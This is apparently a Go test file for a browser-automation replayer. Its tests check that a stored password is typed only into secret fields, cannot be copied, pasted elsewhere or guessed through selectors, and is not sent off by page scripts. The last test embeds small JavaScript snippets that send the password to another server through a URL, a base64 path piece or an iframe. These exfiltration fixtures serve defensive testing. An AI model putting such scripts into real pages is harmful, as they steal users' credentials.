package replayer_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/go-reprise/reprise/automation"
	"github.com/go-reprise/reprise/internal/browsertest"
	"github.com/go-reprise/reprise/replayer"
)

// canary is a password that stands in no other text.
const canary = "Hg7!kQ2z-Tm9xPw4"

// lone is a session in a page with the canary, bound to the page's origin, as a value.
type lone struct {
	t *testing.T
	*replayer.Session
}

func openLone(t *testing.T, server *httptest.Server, o *replayer.Options) lone {
	t.Helper()
	secret, err := automation.NewSecret(canary, server.URL)
	if err != nil {
		t.Fatal(err)
	}
	if o == nil {
		o = &replayer.Options{}
	}
	o.Values, o.Timeout, o.Commit = replayer.Map{"password": secret}, 2*time.Second, replayer.AllowCommits
	s := replayer.Begin(browsertest.Page(t, server.URL), o)
	t.Cleanup(s.Close)
	return lone{t, s}
}

func (s lone) do(step automation.Step) error {
	_, err := s.Do(s.t.Context(), step)
	return err
}

func (s lone) must(step automation.Step) {
	s.t.Helper()
	if err := s.do(step); err != nil {
		s.t.Fatal(err)
	}
}

// refuses reports the reason for which a step is refused.
func (s lone) refuses(step automation.Step) string {
	s.t.Helper()
	var e *replayer.Error
	if err := s.do(step); !errors.As(err, &e) || e.Code != replayer.Refused {
		s.t.Fatalf("%s gives %v, want refused", step.Tool, err)
	}
	return e.Reason
}

func typed(selector string) automation.Step {
	step := on("typeInput", selector)
	step.Value = &automation.Value{Kind: automation.Variable, Name: "password"}
	return step
}

func key(name string) automation.Step { return automation.Step{Tool: "keypress", Key: name} }

func TestALoneCallTypesASecretOnlyIntoAFieldForOne(t *testing.T) {
	t.Parallel()
	server := serve(t, `<input id=note><input id=pin type=password><input id=code autocomplete=one-time-code><textarea id=other></textarea>`)
	s := openLone(t, server, nil)
	s.refuses(typed("#note"))
	s.refuses(typed("#other"))
	s.must(typed("#pin"))
	s.must(typed("#code"))

	recorded := openLone(t, server, &replayer.Options{SecretFields: func(_ context.Context, address, variable string) ([]automation.Step, error) {
		if !strings.HasPrefix(address, server.URL) || variable != "password" {
			return nil, fmt.Errorf("asked for %s on %s", variable, address)
		}
		return []automation.Step{typed("#note")}, nil
	}})
	recorded.must(typed("#note"))
	recorded.refuses(typed("#other"))
}

func TestKeysThatEditOrCopyASecretAreRefused(t *testing.T) {
	t.Parallel()
	server := serve(t, `<form onsubmit="document.title='sent';return false"><input id=p type=password oninput="this.type='text'"></form>`)
	s := openLone(t, server, nil)
	s.must(typed("#p"))
	for _, name := range []string{"Home", "Delete", "Backspace", "ArrowLeft", "Shift+End", "Control+a", "Control+c", "Control+Insert", "Shift+Delete", "Control+z", "x"} {
		if why := s.refuses(key(name)); strings.Contains(why, canary) {
			t.Errorf("%s: %s", name, why)
		}
	}
	s.must(key("Enter"))
	shot, err := s.Snapshot(t.Context(), "", 0)
	if err != nil || shot.Title != "sent" || strings.Contains(shot.Outline, canary[:6]) {
		t.Errorf("%v, %+v", err, shot)
	}
}

func TestNothingIsPastedAtAnotherOriginOnceASecretWasTyped(t *testing.T) {
	t.Parallel()
	server := serve(t, `<input id=p type=password>`)
	other := serve(t, `<input id=q autofocus>`)
	s := openLone(t, server, nil)
	s.must(typed("#p"))
	s.must(automation.Step{Tool: "navigate", URL: other.URL})
	s.must(on("click", "#q"))
	for _, name := range []string{"Control+v", "Shift+Insert", "Meta+v", "Control+Shift+v"} {
		s.refuses(key(name))
	}
	s.must(key("x"))
}

func TestARightGuessIsRefusedLikeAWrongOne(t *testing.T) {
	t.Parallel()
	server := serve(t, `<input id=p type=password oninput="echo.textContent=echo.title=this.value"><p id=echo></p><button id=b>b</button>`)
	s := openLone(t, server, nil)
	s.must(typed("#p"))
	for _, of := range []string{`#echo[title^="%s"]`, `xpath///p[starts-with(., "%s")]`, "text/%s", "aria/%s"} {
		reasons := map[string]bool{}
		for _, guess := range []string{canary[:3], "zzz"} {
			reasons[s.refuses(on("waitFor", fmt.Sprintf(of, guess)))] = true
		}
		if len(reasons) != 1 {
			t.Errorf("%s: %v", of, reasons)
		}
	}
	compared := on("assert", "#echo")
	compared.Value = &automation.Value{Kind: automation.Literal, Value: json.RawMessage(`"zzz"`)}
	s.refuses(compared)
	s.must(on("click", "#b"))
}

// receiver notes all that it is sent.
type receiver struct {
	*httptest.Server
	mu   sync.Mutex
	sent []string
}

func receive(t *testing.T) *receiver {
	r := &receiver{}
	r.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		r.mu.Lock()
		defer r.mu.Unlock()
		_ = req.ParseForm()
		r.sent = append(r.sent, req.URL.String(), req.Form.Encode(), req.Referer())
		w.Header().Set("Access-Control-Allow-Origin", "*")
		fmt.Fprint(w, "ok")
	}))
	t.Cleanup(r.Close)
	return r
}

func TestARequestThatCarriesASecretAwayIsNotSent(t *testing.T) {
	t.Parallel()
	for name, script := range map[string]string{
		"link":  `location = away + "/?q=" + encodeURIComponent(p.value)`,
		"piece": `location = away + "/" + btoa(p.value.slice(2, 11))`,
		"frame": `document.body.append(Object.assign(document.createElement("iframe"), {src: away + "/?q=" + p.value.slice(0, 8)}))`,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			away := receive(t)
			server := serve(t, fmt.Sprintf(`<input id=p type=password><button id=go>Go</button><script>const away = %q; go.onclick = () => { %s }</script>`, away.URL, script))
			s := openLone(t, server, nil)
			s.must(typed("#p"))
			eventually(t, "refused", func() bool { // a press may be over before the page asks, and a page that was not shown yet hears of none
				var e *replayer.Error
				return errors.As(s.do(on("click", "#go")), &e) && e.Code == replayer.Refused && strings.Contains(e.Reason, away.URL)
			})
			away.mu.Lock()
			defer away.mu.Unlock()
			if all := strings.Join(away.sent, " "); strings.Contains(all, canary[2:8]) || strings.Contains(all, "q=") {
				t.Errorf("%s", all)
			}
		})
	}
}
